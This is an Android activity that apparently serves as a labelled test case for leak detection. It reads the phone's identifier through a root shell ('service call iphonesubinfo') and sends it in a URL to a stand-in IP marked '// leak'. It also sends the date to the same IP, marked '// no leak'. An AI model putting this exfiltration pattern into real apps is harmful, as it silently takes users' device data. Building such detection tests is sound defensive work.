package ways;

import android.app.Activity;
import android.os.Bundle;
import java.io.BufferedReader;
import java.io.DataOutputStream;
import java.io.InputStreamReader;
import java.net.URL;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** The number of the phone by a shell. */
public class ServiceCall extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            Process process = Runtime.getRuntime().exec(new String[] {"su", "-c", "service call iphonesubinfo 1"});
            BufferedReader in = new BufferedReader(new InputStreamReader(process.getInputStream()));
            StringBuilder digits = new StringBuilder();
            for (String line; (line = in.readLine()) != null;) {
                Matcher matcher = Pattern.compile("'(.+?)'").matcher(line);
                while (matcher.find()) digits.append(matcher.group(1).replaceAll("\\.", ""));
            }
            new URL("http://203.0.113.26/i/" + digits).openStream(); // leak
            Process date = Runtime.getRuntime().exec("date");
            String now = new BufferedReader(new InputStreamReader(date.getInputStream())).readLine();
            new URL("http://203.0.113.26/d/" + now).openStream(); // no leak
        } catch (Exception e) {
            finish();
        }
    }
}
